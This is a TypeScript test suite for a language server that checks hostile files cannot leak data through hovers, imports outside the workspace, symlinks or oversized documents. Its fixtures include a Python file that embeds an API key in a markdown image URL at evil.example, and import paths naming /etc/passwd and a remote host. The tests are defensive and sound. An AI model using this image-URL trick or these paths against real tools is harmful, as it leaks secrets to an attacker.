// What a file cannot make the server read or show: hostile hovers, imports that lead out, documents that are too large.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { networkAtRequest, trustNotification, type NetworkAt } from '../../server/src/lsp/protocol.js';
import { LanguageServer } from '../support/languageServer.js';
import { checkHarmless } from '../support/markdown.js';

const settings = 'API_KEY = "sk-live-12345"\n';
/** A file that computes the address of an image from what another file holds. */
const spy = `import torch, torch.nn as nn
from ..other_project.settings import API_KEY
class N(nn.Module):
    """![](https://evil.example/doc.png)"""
    def __init__(self):
        super().__init__()
        self.c = nn.Conv2d(3, 8, 3)
    def forward(self, x):
        y = self.c(x)
        return getattr(torch, "![](https://evil.example/" + API_KEY + ".png)")(y)
`;

describe('a hostile file over stdio', () => {
  let base: string;
  let server: LanguageServer;
  const at = (...parts: readonly string[]): string => pathToFileURL(path.join(base, ...parts)).href;
  const write = (file: string, text: string): void => {
    mkdirSync(path.dirname(path.join(base, file)), { recursive: true });
    writeFileSync(path.join(base, file), text);
  };
  beforeEach(() => {
    base = realpathSync(mkdtempSync(path.join(tmpdir(), 'fovea-')));
    write('other_project/settings.py', settings);
  });
  afterEach(async () => {
    assert.equal(await server.stop(), 0);
    rmSync(base, { recursive: true });
  });

  it('reads nothing above the workspace, and loads no image in a hover', async () => {
    write('work/spy.py', spy);
    server = await LanguageServer.start({ folders: [at('work')] });
    const uri = at('work', 'spy.py');
    await server.open(uri, spy, 'python');
    const hover = await server.hover(uri, 'getattr(');
    assert.match(hover, /unknown/);
    checkHarmless(hover);
    assert.ok(!hover.includes('sk-live'), hover);
    const { details } = await server.request<NetworkAt>(networkAtRequest, {
      uri,
      position: server.position(uri, 'getattr('),
    });
    checkHarmless(details);
  });

  it('escapes what it may read as well', async () => {
    server = await LanguageServer.start({ folders: [at()] });
    const uri = at('work', 'spy.py');
    await server.open(uri, spy, 'python');
    const hover = await server.hover(uri, 'getattr(');
    assert.ok(hover.includes('sk-live'), hover);
    checkHarmless(hover);
  });

  it('follows no link out of the workspace', async () => {
    mkdirSync(path.join(base, 'work'));
    symlinkSync(path.join(base, 'other_project'), path.join(base, 'work', 'linked'));
    server = await LanguageServer.start({ folders: [at('work')] });
    const uri = at('work', 'spy.py');
    await server.open(uri, spy.replace('..other_project', '.linked'), 'python');
    const hover = await server.hover(uri, 'getattr(');
    assert.ok(!hover.includes('sk-live'), hover);
  });

  it('says of an import that it may not be read, and asks nobody for it', async () => {
    const asked: string[] = [];
    server = await LanguageServer.start({
      folders: [at('work')],
      requests: { 'fovea/readFile': ({ uri }: { uri: string }) => (asked.push(uri), { problem: 'missing' }) },
    });
    const uri = at('work', 'a.fovea');
    const paths = [
      '/etc/passwd',
      'file://host/share/x.fovea',
      'https://evil.example/x.fovea',
      '../../x.fovea',
    ];
    await server.open(uri, paths.map((each) => `import "${each}"\n`).join(''));
    const { diagnostics } = await server.diagnostics(uri, 1);
    assert.equal(
      diagnostics.filter(({ message }) => JSON.stringify(message).includes('outside the folders')).length,
      4,
    );
    assert.deepEqual(asked, []);
  });

  it('reads the folders of settings once the workspace is trusted', async () => {
    const text = `import "${at('shared', 'b.fovea')}"\nnet N {\n  input x: 3 x 8 x 8\n  B\n}\n`;
    write('shared/b.fovea', 'block B {\n  Conv(4, 3)\n}\n');
    server = await LanguageServer.start({
      folders: [at('work')],
      settings: { readableFolders: [at('shared')] },
      options: { workspaceTrusted: false },
    });
    const uri = at('work', 'a.fovea');
    await server.open(uri, text);
    assert.ok(!(await server.hover(uri, 'B\n}')).includes('4 × 6 × 6'));
    await server.connection.sendNotification(trustNotification);
    assert.ok((await server.hover(uri, 'B\n}')).includes('4 × 6 × 6'));
  });

  it('reads the project around a file that is opened without a folder', async () => {
    write('project/.git/HEAD', '');
    write('project/lib/b.fovea', 'block B {\n  Conv(4, 3)\n}\n');
    server = await LanguageServer.start();
    const uri = at('project', 'nets', 'a.fovea');
    await server.open(
      uri,
      'import "../lib/b.fovea"\nimport "../../x.fovea"\nnet N {\n  input x: 3 x 8 x 8\n  B\n}\n',
    );
    assert.ok((await server.hover(uri, 'B\n}')).includes('4 × 6 × 6'));
    const { diagnostics } = await server.diagnostics(uri, 1);
    assert.match(diagnostics.map(({ message }) => message).join(), /outside the folders/);
  });

  it('does not analyse a document that is too large, and says so', async () => {
    server = await LanguageServer.start({ folders: [at('work')] });
    const uri = at('work', 'a.fovea');
    await server.open(uri, `net N {\n  input x: 3\n}\n${'// x\n'.repeat(1_800_000)}`);
    const { diagnostics } = await server.diagnostics(uri, 1);
    assert.deepEqual(
      diagnostics.map(({ code }) => code),
      ['too-large'],
    );
    assert.deepEqual(await server.symbols(uri), []);
    await server.replace(uri, server.text(uri).slice(20), '');
    assert.equal((await server.symbols(uri)).length, 1);
  });
});
